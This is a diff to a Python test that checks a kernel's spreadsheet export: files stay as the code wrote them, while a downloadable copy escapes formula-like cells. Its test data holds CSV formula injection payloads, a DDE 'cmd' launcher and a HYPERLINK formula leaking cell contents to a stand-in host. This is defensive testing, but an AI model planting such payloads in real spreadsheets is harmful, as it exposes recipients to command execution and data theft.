@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import base64
+import io
 import json
 import os
 import sys
@@ -663,31 +664,40 @@ def test_unavailable_message_names_what_is_available() -> None:
     )
 
 
-def test_csv_and_xlsx_written_by_code_escape_spreadsheet_formulas(kernel: Kernel, tmp_path: Path) -> None:
+def test_code_writes_what_it_asks_and_a_copy_for_spreadsheets_escapes_formulas(kernel: Kernel, tmp_path: Path) -> None:
+    """to_csv and to_excel are pandas' own (no -5 turned into '-5 behind the code's back);
+    the copy the person may download for a spreadsheet shows formula-like text as text."""
+    from localyst.kernel._formulas import escaped_copy
+
     data = tmp_path / "data"
-    result = ok(
+    ok(
         kernel,
         """
         import pandas as pd
         frame = pd.DataFrame({
-            "=cmd|' /C calc'!A0": ["=HYPERLINK(\\"http://exfil.example/?\\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "plain", "a=b"],
+            "=cmd|' /C calc'!A0": ["=HYPERLINK(\\"http://exfil.example/?\\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "plain", "+44 20 7946"],
             "n": [-5, 1, 2, 3, 4, 5],
         })
         frame.to_csv("out.csv", index=False)
-        frame.to_csv("raw.csv", index=False, escape_formulas=False)
+        frame.to_csv("out.tsv", index=False, sep="\\t")
         frame.to_excel("out.xlsx", index=False)
-        frame["n"].to_csv("series.csv")
-        back = pd.read_excel("out.xlsx")
-        print(list(back.columns), list(back.iloc[:, 0]))
         """,
     )
     lines = (data / "out.csv").read_text().splitlines()
-    assert lines[0] == "'=cmd|' /C calc'!A0,n"
-    assert [line.rsplit(",", 1)[0] for line in lines[1:]] == [
-        "\"'=HYPERLINK(\"\"http://exfil.example/?\"\"&A1)\"", "'+1+1", "'-2+3", "'@SUM(A1)", "plain", "a=b"
+    assert lines[0] == "=cmd|' /C calc'!A0,n" and lines[2] == "+1+1,1" and lines[1].endswith(",-5")  # as the code asked
+    escaped = escaped_copy(data / "out.csv").decode().splitlines()
+    assert escaped[0] == "'=cmd|' /C calc'!A0,n"
+    assert [line.rsplit(",", 1)[0] for line in escaped[1:]] == [
+        "\"'=HYPERLINK(\"\"http://exfil.example/?\"\"&A1)\"", "'+1+1", "'-2+3", "'@SUM(A1)", "plain", "'+44 20 7946"
     ]
-    assert [line.rsplit(",", 1)[1] for line in lines[1:]] == ["-5", "1", "2", "3", "4", "5"]  # numbers stay numbers
-    assert (data / "raw.csv").read_text().splitlines()[2] == "+1+1,1"
-    printed = "".join(text for _, text in streams(result))
-    assert "'=HYPERLINK" in printed and "'=cmd" in printed  # in the workbook as text, not formulas
-    assert (data / "series.csv").read_text().splitlines()[1] == "0,-5"
+    assert [line.rsplit(",", 1)[1] for line in escaped[1:]] == ["-5", "1", "2", "3", "4", "5"]  # numbers stay numbers
+    assert escaped_copy(data / "out.tsv").decode().splitlines()[2] == "'+1+1\t1"
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(escaped_copy(data / "out.xlsx")))
+    cells = [c.value for c in book.active["A"]]
+    assert cells[:3] == ["'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://exfil.example/?\"&A1)", "'+1+1"]
+    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)  # no formula left
+    assert openpyxl.load_workbook(data / "out.xlsx").active["A2"].data_type == "f"  # the code's own file is as written
+    with pytest.raises(ValueError):
+        escaped_copy(data / "picture.png")
